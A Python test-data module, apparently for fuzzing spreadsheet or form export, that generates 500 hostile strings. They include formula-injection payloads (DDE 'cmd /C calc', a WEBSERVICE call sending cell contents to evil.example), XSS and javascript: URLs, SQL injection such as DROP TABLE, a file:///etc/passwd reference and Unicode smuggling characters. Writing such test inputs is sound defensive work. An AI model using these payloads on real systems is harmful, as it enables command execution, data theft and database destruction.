"""Five hundred texts that try to be more than text."""

from collections.abc import Sequence
from itertools import product

_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207c")
_COMMANDS = (
    "1+1",
    'HYPERLINK("http://evil.example";"klik")',
    "cmd|'/C calc'!A0",
    "SUM(1;1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://evil.example/?"&A1)',
    "IMPORTXML(A1;A2)",
)
_BEFORE = ("", " ", "\u00a0", "\u200b", "\ufeff", "\u200f", "\u202e", "\u0301", "\u2066")
_FORBIDDEN_IN_FORMS = ("\t", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x1f", "\x85", "\u2028", "\u2029", "\x07\x1b")
_NEXT_CELL = ("Jan;", "Jan,", 'Jan";"', 'Jan","', "Jan\t", "Jan\r\n", "Jan\n", "Jan; ", "Jan;\u200b", "a;b,")
_MARKUP = (
    "<script>alert(1)</script>",
    "<b>vet</b>",
    "<a href='http://evil.example'>klik</a>",
    "<img src=x onerror=alert(1)>",
    "<r><t>rijk</t></r>",
    "<r>&</r>",
    "</t></si></sst>",
    "]]><x/>",
    "&lt;b&gt;&amp;&#60;",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "%(name)s %s %n",
    "{0.__class__}",
    "**vet** __lijn__ --door--",
    "[klik](http://evil.example)",
    "http://evil.example/",
    "mailto:evil@evil.example",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "external:c:\\evil.xlsx",
    "internal:Sheet2!A1",
    "_x0041__x000D_",
    ") Tj ET (",
    "/URI (http://evil.example)",
    "\\n\\(\\)",
    "' OR 1=1 --",
    "'; DROP TABLE registration; --",
    '"',
    '""',
    "'",
    "''=1",
    "|cmd",
    "%0A=1+1",
    "\\=1",
)
_NAMES = (
    "+31 6 12345678",
    "Łucja Żółć",
    "Zoë van der Bŷl",
    "Ахмед Иванов",
    "Γιώργος",
    "מרים",
    "محمد",
    "李小龍",
    "สมชาย",
    "👩‍👩‍👧‍👦 Janssen",
    "Z̷̢̛a̵l̸g̶o̷",
    "e\u0301" * 60,
    "\u202egnp.exe",
    "A" * 200,
    "=" * 200,
    "W " * 100,
    "x" * 40_000,
    "1e5",
    "0123",
    "1-2-2027",
    "TRUE",
    "NULL",
    "#REF!",
    "\ufffe\uffff",
    "\ud7ff\ue000",
)


def hostile_strings() -> Sequence[str]:
    """All of them, in the order in which they would be read; each is there once."""
    formulas = [f"{sign}{command}" for sign, command in product(_SIGNS, _COMMANDS)]
    found = [
        *formulas,
        *(f"{before}{formula}" for before, formula in product(_BEFORE[1:], formulas[:28:2])),
        *(f"{before}{sign}1" for before, sign in product(_FORBIDDEN_IN_FORMS, _SIGNS[:8])),
        *(f"{before}{sign}1+1" for before, sign in product(_NEXT_CELL, _SIGNS[:8])),
        *(f"{before}{text}" for before, text in product(("", "=", "Jan "), _MARKUP)),
        *_NAMES,
    ]
    more = [f"{before}{after}{formula}" for before, after, formula in product(_NEXT_CELL, _BEFORE[1:4], formulas[::9])]
    return list(dict.fromkeys([*found, *more]))[:500]
